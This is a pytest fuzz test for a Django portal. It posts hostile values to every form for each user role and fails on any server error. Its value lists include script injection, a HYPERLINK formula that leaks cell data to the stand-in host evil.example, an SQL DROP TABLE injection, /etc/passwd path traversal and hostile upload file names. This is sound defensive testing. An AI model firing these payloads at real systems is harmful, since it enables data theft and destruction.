"""Random and hostile values posted to every form of every role: NUL characters, scripts,
formulas, megabyte strings, huge numbers, impossible dates, wrong types, hostile file names.
Any 500 (an exception in the test client) fails; everything else is the portal saying no.

The forms are found the way a person finds them: every page the role may open (the access
matrix's URLs), every `<form method="post">` on it, every field it has.
"""

import random
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests.accounts_tests.test_access_matrix import EXPECTED, portal_url_names

# Pages whose POST ends the session or cannot carry hostile form data meaningfully.
SKIPPED = {"logout", "login"}
ROLES = ["admin", "specialist_a", "coordinator_a", "head_a"]


class FormFinder(HTMLParser):
    """The POST forms of a page: action and (name, kind, choices) of each field."""

    def __init__(self):
        super().__init__()
        self.forms, self._form = [], None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and (attrs.get("method") or "").lower() == "post":
            self._form = {"action": attrs.get("action") or "", "fields": {}}
            self.forms.append(self._form)
        elif self._form is not None and attrs.get("name"):
            if tag == "input":
                kind = (attrs.get("type") or "text").lower()
                self._form["fields"].setdefault(attrs["name"], [kind, [], attrs.get("value")])
                if kind in ("radio", "checkbox") and attrs.get("value"):
                    self._form["fields"][attrs["name"]][1].append(attrs["value"])
            elif tag in ("select", "textarea"):
                self._form["fields"][attrs["name"]] = [tag, [], None]
                self._select = attrs["name"] if tag == "select" else None
        if tag == "option" and self._form is not None and getattr(self, "_select", None):
            self._form["fields"][self._select][1].append(attrs.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        if tag == "select":
            self._select = None


TEXTS = [
    "Текст\x00<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "' OR 1=1; DROP TABLE programs_program; --",
    "../../etc/passwd",
    "\u202e\ufeff\u200b" * 50,
    "9" * 5000,
    "",
]
NUMBERS = ["9" * 400, "-1e309", "NaN", "-5", "1\x00", "1,5,5", "Infinity", "0x10"]
DATES = ["0000-00-00", "9999-99-99", "31.02.2023", "1-1-1", "99999-12-31", "2023-02-30"]


def hostile_value(rng, kind, choices, original, big):
    if kind == "file":
        name = rng.choice(["..\\..\\x.pdf", "a\x00.pdf", "ы" * 300 + ".docx", ".png"])
        return SimpleUploadedFile(name, rng.choice([b"%PDF-1.7", b"PK\x03\x04", b"MZ\x90"]))
    if kind in ("hidden",) and rng.random() < 0.5:
        return original or ""
    if kind == "number":
        return rng.choice(NUMBERS)
    if kind == "date":
        return rng.choice(DATES)
    if kind in ("select", "radio", "checkbox") and choices and rng.random() < 0.4:
        return rng.choice(choices)
    if kind in ("select", "radio", "checkbox"):
        return rng.choice(["999999999", "abc", "-1", "\x00", "1.5", ""])
    if big:
        return "Ж" * 1_000_000
    return rng.choice(TEXTS + NUMBERS + DATES)


@pytest.mark.parametrize("role", ROLES)
def test_no_form_answers_hostile_values_with_a_500(cast, client, role):
    rng = random.Random(f"fuzz-{role}")
    client.force_login(cast.users[role])
    failures, posts = [], 0
    for name in portal_url_names():
        kwargs_of, expected = EXPECTED[name]
        if name in SKIPPED or expected[role] != 200:
            continue
        url = reverse(name, kwargs=kwargs_of(cast))
        page = client.get(url)
        if page.status_code != 200 or "html" not in page.get("Content-Type", ""):
            continue
        finder = FormFinder()
        finder.feed(page.content.decode())
        for form in finder.forms:
            target = form["action"] or url
            for round_number in range(3):
                big = round_number == 2
                data = {
                    field: hostile_value(rng, kind, choices, original, big)
                    for field, (kind, choices, original) in form["fields"].items()
                    if field != "csrfmiddlewaretoken"
                }
                posts += 1
                try:
                    response = client.post(target, data)
                except Exception as error:  # the test client re-raises what became a 500
                    failures.append(f"POST {target} ({name}) as {role}: {error!r}"[:400])
                    continue
                if response.status_code >= 500:
                    failures.append(f"POST {target} ({name}) as {role}: {response.status_code}")
        client.force_login(cast.users[role])  # a password change signs the person out
    print(f"fuzz {role}: {posts} POST")
    assert posts >= 10
    assert not failures, "\n".join(failures)


def test_a_10_mb_body_is_refused_not_a_server_error(cast, client):
    client.force_login(cast.users["head_a"])
    url = reverse("school_report_start", args=[cast.a.activity.pk, cast.a.school.pk, 2022])
    response = client.post(url, {"text": "Ж" * (10 * 1024 * 1024), "action": "submit"})
    assert response.status_code == 400
